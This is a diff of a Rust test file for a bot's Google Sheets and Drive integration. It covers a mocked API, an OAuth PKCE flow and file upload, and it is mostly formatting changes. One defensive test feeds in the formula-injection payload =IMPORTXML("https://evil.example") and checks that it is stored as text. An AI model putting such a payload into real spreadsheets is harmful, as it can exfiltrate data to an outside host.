@@ -2,10 +2,10 @@
 
 use std::sync::{Arc, Mutex};
 
+use chasqui_model::Id;
 use chasqui_model::account::User;
 use chasqui_model::connection::{Connection, Settings};
 use chasqui_model::secret::Secret;
-use chasqui_model::Id;
 use chasqui_runtime::NotGranted;
 use serde_json::{Value, json};
 
@@ -55,10 +55,11 @@ impl Google {
         let path = decoded(path);
         let rest = path.strip_prefix("/v4/spreadsheets/1abc");
         match (asked.method.as_str(), rest) {
-            ("GET", Some("")) => {
-                Reply::Json(200, json!({ "sheets": [{ "properties": { "sheetId": 0, "title": "Other" } },
-                    { "properties": { "sheetId": 42, "title": "It's me" } }] }))
-            }
+            ("GET", Some("")) => Reply::Json(
+                200,
+                json!({ "sheets": [{ "properties": { "sheetId": 0, "title": "Other" } },
+                    { "properties": { "sheetId": 42, "title": "It's me" } }] }),
+            ),
             ("GET", Some(rest)) => self.read(rest.strip_prefix("/values/'It''s me'!").unwrap()),
             ("POST", Some("/values/'It''s me'!A1:append")) => {
                 assert_eq!(query, "valueInputOption=RAW&insertDataOption=INSERT_ROWS");
@@ -75,15 +76,19 @@ impl Google {
                 self.rows.lock().unwrap().remove(start);
                 Reply::Json(200, json!({}))
             }
-            ("POST", None) if path == "/upload/drive/v3/files" => {
-                Reply::Json(200, json!({ "id": "f1", "webViewLink": "https://drive.google.com/file/d/f1/view" }))
-            }
+            ("POST", None) if path == "/upload/drive/v3/files" => Reply::Json(
+                200,
+                json!({ "id": "f1", "webViewLink": "https://drive.google.com/file/d/f1/view" }),
+            ),
             _ => Reply::Json(404, json!({ "error": { "message": format!("nothing at {path}") } })),
         }
     }
 
     fn token(&self, form: &str) -> Reply {
-        assert_eq!((field(form, "client_id"), field(form, "client_secret")), ("client".into(), "hush".into()));
+        assert_eq!(
+            (field(form, "client_id"), field(form, "client_secret")),
+            ("client".into(), "hush".into())
+        );
         let fits = match field(form, "grant_type").as_str() {
             "authorization_code" => {
                 use base64::Engine as _;
@@ -186,8 +191,11 @@ fn sheet(action: &str, more: &Value) -> Value {
     for (key, value) in more.as_object().unwrap() {
         node[key] = value.clone();
     }
-    let mut nodes = vec![node, json!({ "id": "done", "type": "end", "text": "{row.Phone} {row.Name} {row.Total}" }),
-        json!({ "id": "failed", "type": "end", "text": "No sheet." })];
+    let mut nodes = vec![
+        node,
+        json!({ "id": "done", "type": "end", "text": "{row.Phone} {row.Name} {row.Total}" }),
+        json!({ "id": "failed", "type": "end", "text": "No sheet." }),
+    ];
     if action != "insert" {
         nodes.push(json!({ "id": "none", "type": "end", "text": "No such row." }));
     }
@@ -196,9 +204,11 @@ fn sheet(action: &str, more: &Value) -> Value {
 
 #[tokio::test]
 async fn what_looks_like_a_formula_arrives_as_text() {
-    let world = World::agreed(sheet("insert", &json!({ "values": { "Name": "{message.text}", "Phone": "7" } }))).await;
+    let world =
+        World::agreed(sheet("insert", &json!({ "values": { "Name": "{message.text}", "Phone": "7" } })))
+            .await;
     let evil = "=IMPORTXML(\"https://evil.example\")";
-    assert_eq!(world.hears(evil).await, format!("7 {evil} "));
+    assert_eq!(world.hears(evil).await, format!("7 {evil}"));
     assert_eq!(world.row(2), json!(["7", evil, ""]));
 }
 
@@ -271,13 +281,13 @@ async fn a_person_agrees_once_and_only_who_began() {
     let url = begin().await.unwrap();
     let (place, query) = url.split_once('?').unwrap();
     assert_eq!(place, format!("{}/o/oauth2/v2/auth", world.service.url));
-    assert_eq!((field(query, "access_type"), field(query, "code_challenge_method")), ("offline".into(), "S256".into()));
+    assert_eq!(
+        (field(query, "access_type"), field(query, "code_challenge_method")),
+        ("offline".into(), "S256".into())
+    );
     assert!(field(query, "redirect_uri").ends_with("/api/v1/connections/google/callback"));
     let state = field(query, "state");
-    for (who, state, code) in [
-        (stranger, state.as_str(), "code-1"),
-        (user, state.as_str(), "code-1"),
-    ] {
+    for (who, state, code) in [(stranger, state.as_str(), "code-1"), (user, state.as_str(), "code-1")] {
         // The stranger's attempt has used it up.
         let refused = runtime.finish_google(account, who, state, code).await;
         assert!(matches!(refused, Err(NotGranted::Unknown)), "{refused:?}");
@@ -306,7 +316,8 @@ async fn a_file_of_a_contact_goes_to_drive() {
     let ana = world.bot.contact("Ana");
     ana.says("hi").unwrap();
     assert_eq!(next(&ana).await, "Photo?");
-    ana.sends(crate::files::picture(&world.bot, ana.wa_id(), b"\xff\xd8\r\n--x--\r\n".to_vec()).await).unwrap();
+    ana.sends(crate::files::picture(&world.bot, ana.wa_id(), b"\xff\xd8\r\n--x--\r\n".to_vec()).await)
+        .unwrap();
     assert_eq!(next(&ana).await, "https://drive.google.com/file/d/f1/view");
     let asked = world.service.asked().into_iter().find(|asked| asked.path.contains("upload")).unwrap();
     let kind = asked.header("content-type").to_owned();
